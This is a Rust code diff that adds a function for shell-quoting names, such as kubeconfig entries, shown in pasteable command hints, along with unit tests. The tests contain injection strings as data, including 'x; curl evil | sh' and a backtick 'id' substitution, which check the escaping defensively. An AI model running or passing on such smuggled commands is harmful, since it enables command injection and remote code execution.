@@ -3,6 +3,7 @@
 //! Every module has its own enum whose variants tell the caller what to do next; this one gathers
 //! them. It owns the exit codes and the order of the lines, and never prints.
 
+use std::borrow::Cow;
 use std::fmt;
 
 use serde::{Deserialize, Serialize};
@@ -189,6 +190,20 @@ impl Calling {
     }
 }
 
+/// A word of a command that a hint offers for pasting.
+///
+/// Security: names may be a kubeconfig's. None may end the word and begin a command, nor hold a
+/// placeholder, whose words would end the quotation.
+#[must_use]
+pub fn shell_word(text: &str) -> Cow<'_, str> {
+    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_./:@%+".contains(&byte);
+    if !text.is_empty() && text.bytes().all(is_plain) {
+        Cow::Borrowed(text)
+    } else {
+        Cow::Owned(format!("'{}'", text.replace('\'', r"'\''").replace('{', "{''")))
+    }
+}
+
 /// Makes somebody else's words safe for a terminal and for one line of a log.
 ///
 /// Security: a server's message, a name in a kubeconfig or a file's content may hold escape
@@ -239,6 +254,17 @@ mod tests {
         assert_eq!(printable("\u{1b}[31mred\u{0}"), "\u{fffd}[31mred\u{fffd}");
         assert_eq!(printable("user\u{202e}gpj"), "user\u{fffd}gpj");
         assert_eq!(printable(&"x".repeat(5_000)).chars().count(), 1_001);
+    }
+
+    #[test]
+    fn a_word_for_the_shell_is_one_word() {
+        assert_eq!(shell_word("kubernetes/prod-1_a.b"), "kubernetes/prod-1_a.b");
+        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
+        assert_eq!(shell_word("x'`id`'"), r"'x'\''`id`'\'''");
+        assert_eq!(shell_word("~"), "'~'");
+        assert_eq!(shell_word(""), "''");
+        // A placeholder would be filled with quotes of our own.
+        assert_eq!(shell_word("a{config}"), "'a{''config}'");
     }
 
     #[test]
